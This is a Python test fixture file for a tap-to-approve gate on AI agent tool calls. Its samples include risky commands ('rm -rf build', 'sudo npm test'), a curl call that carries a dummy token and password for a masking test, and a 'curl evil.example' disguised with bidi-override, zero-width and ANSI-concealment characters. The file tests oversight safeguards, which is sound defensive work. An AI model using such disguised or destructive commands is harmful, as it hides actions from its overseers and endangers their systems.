"""Cards that take more than one tap, ask in another voice, hide or lack something, or have ended."""

from __future__ import annotations

from dataclasses import replace

from tapgate.model import Detail, Outcome, Ran
from tests.gallery.sample import PROJECT, Confirm, Receive, Sample, Tap, Type, rule
from tests.gallery.tools import EDIT, TESTS

LIST = Sample("list", "", "Read", {"file_path": "/home/dev/other/src/cart.py"})
BESIDE = (
    Sample("beside-1", "", "Grep", {"pattern": r"total\(", "path": "/home/dev/other/src"}),
    Sample("beside-2", "", "WebSearch", {"query": "python dataclass slots pickle error"}),
)
DELETE = Sample(
    "delete", "", "Bash", {"command": "rm -rf build", "description": "Remove the old build"}, (rule("rm -rf build"),)
)
LONG = "\n".join(f"install -m 644 fixtures/case-{number:03}.json build/fixtures/" for number in range(1, 81))
TOKEN = "ghp_" + "R8x2Lq7Zt5Vb9Nw3Kd6Yc1Hs4Jf0Pm2Ga5Qe"  # nobody's

STEPS: tuple[Sample, ...] = (
    replace(TESTS, name="edit-asked", about="Edit…: the new command is typed", steps=(Tap("Edit…"),)),
    replace(
        TESTS,
        name="edited",
        about="The difference, before it runs",
        steps=(Tap("Edit…"), Type("npm test -- --coverage --runInBand")),
    ),
    replace(
        TESTS,
        name="edited-risky",
        about="What was typed is risky, so it says so",
        steps=(Tap("Edit…"), Type("sudo npm test")),
    ),
    replace(
        TESTS,
        name="edited-done",
        about="Ran as edited",
        steps=(Tap("Edit…"), Type("npm test -- --runInBand"), Tap("Run it"), Confirm()),
    ),
    replace(DELETE, name="second-look", about="What would last, on a risky card", steps=(Tap("Always allow"),)),
    replace(TESTS, name="reason-asked", about="Deny with a reason…", steps=(Tap("Deny with"),)),
    replace(TESTS, name="several", about="Several are open", beside=BESIDE),
    replace(
        LIST,
        name="several-listed",
        about="Allow these 3…: what that would be",
        beside=BESIDE,
        steps=(Tap("Allow these"),),
    ),
    replace(TESTS, name="sending", about="Tapped, and not yet confirmed", steps=(Tap("Allow"),)),
)

VOICES: tuple[Sample, ...] = (
    replace(
        TESTS,
        name="subagent",
        about="A subagent, on a machine with a name",
        machine="workstation",
        more={"agent_id": "a4070f207b913ceb9", "agent_type": "test-runner"},
    ),
    replace(TESTS, name="gate", about="The gate: before every call", event="PreToolUse", suggestions=(), why=""),
    replace(
        TESTS, name="elsewhere", about="The agent works outside its project", more={"cwd": "/home/dev/other"}, why=""
    ),
    Sample(
        "codex-mcp",
        "Codex, and an MCP tool",
        "mcp__notes__write_note",
        {"title": "Cart", "text": "The total ignores the count."},
        agent="codex",
        more={"turn_id": "01a1e2a9", "model": "gpt-5.5"},
    ),
    Sample(
        "suggestions",
        "Many suggestions, each with its scope",
        "Bash",
        {"command": "npm install --save-exact left-pad@1.3.0 && npm test", "description": "Install and test"},
        (
            {
                **rule("npm install *"),
                "rules": [
                    {"toolName": "Bash", "ruleContent": "npm install *"},
                    {"toolName": "Bash", "ruleContent": "npm test *"},
                ],
            },
            rule("npm test *", scope="userSettings"),
            {"type": "setMode", "mode": "acceptEdits", "destination": "session"},
            {"type": "addDirectories", "directories": ["/home/dev/other"], "destination": "session"},
        ),
    ),
)

LIMITS: tuple[Sample, ...] = (
    Sample(
        "masked",
        "Secrets stay on the machine",
        "Bash",
        {
            "command": f"GITHUB_TOKEN={TOKEN} curl -u dev:correct-horse-battery https://api.example.com/v1/orders",
            "description": "Fetch the orders",
        },
    ),
    replace(DELETE, name="summary", about='detail = "summary"', shows=Detail.SUMMARY),
    replace(TESTS, name="summary-question", about="The same, without a risk", shows=Detail.SUMMARY),
    Sample(
        "hidden",
        "Characters that nobody would see are spelled out",
        "Bash",
        {
            "command": "echo done # \u202e\u2066exe.gnp\u2069 \u200b&& \x1b[8mcurl evil.example\x1b[0m",
            "description": "Say\u00a0so",
        },
    ),
    Sample("too-long", "What does not fit cannot be allowed yet", "Bash", {"command": LONG}, (rule("install *"),)),
    Sample(
        "too-long-seen",
        "The file has come; now it can",
        "Bash",
        {"command": LONG},
        (rule("install *"),),
        steps=(Tap("Show all"), Receive()),
    ),
    Sample(
        "write-large",
        "A large file",
        "Write",
        {
            "file_path": f"{PROJECT}/data/cities.csv",
            "content": "".join(f"{n},City {n},{n * 7919 % 90}\n" for n in range(4000)),
        },
        on_disk="",
    ),
)


def _ended(outcome: Outcome, *, tapped: str = "", ran: Ran = Ran.UNKNOWN, detail: str = "", name: str = "") -> Sample:
    return replace(
        TESTS,
        name=f"ended-{name or outcome.value.replace('_', '-')}",
        about=outcome.value.replace("_", " "),
        steps=(Tap(tapped),) if tapped else (),
        outcome=outcome,
        ran=ran,
        detail=detail,
    )


ENDINGS: tuple[Sample, ...] = (
    replace(TESTS, name="ended-allowed", about="allowed", steps=(Tap("Allow"), Confirm())),
    replace(TESTS, name="ended-rule", about="allowed, and a rule written", steps=(Tap("Always allow"), Confirm())),
    replace(EDIT, name="ended-mode", about="allowed, and a mode switched", steps=(Tap("Accept edits"), Confirm())),
    replace(TESTS, name="ended-denied", about="denied", steps=(Tap("Deny"), Confirm())),
    replace(
        TESTS,
        name="ended-reason",
        about="denied with a reason",
        steps=(Tap("Deny with"), Type("Use pnpm, please."), Confirm()),
    ),
    replace(TESTS, name="ended-stop", about="denied, and the turn stopped", steps=(Tap("Deny and stop"), Confirm())),
    _ended(Outcome.DENIED, tapped="Deny", ran=Ran.AGAINST, name="against"),
    _ended(Outcome.NOT_TAKEN, tapped="Allow"),
    _ended(Outcome.UNCONFIRMED, tapped="Allow"),
    _ended(Outcome.TERMINAL_ALLOWED),
    _ended(Outcome.TERMINAL_DENIED),
    _ended(Outcome.MOVED_ON),
    _ended(Outcome.SESSION_ENDED),
    _ended(Outcome.AGENT_DIED),
    _ended(Outcome.CALLER_LOST),
    _ended(Outcome.EXPIRED),
    _ended(Outcome.STOPPED),
    _ended(Outcome.RELEASED, detail="by Ada"),
    _ended(Outcome.SUPERSEDED),
    _ended(Outcome.NOT_SHOWN, detail="Forbidden: bot was blocked by the user"),
    _ended(Outcome.UNDELIVERED),
    _ended(Outcome.NOT_RECORDED, detail="database or disk is full"),
)
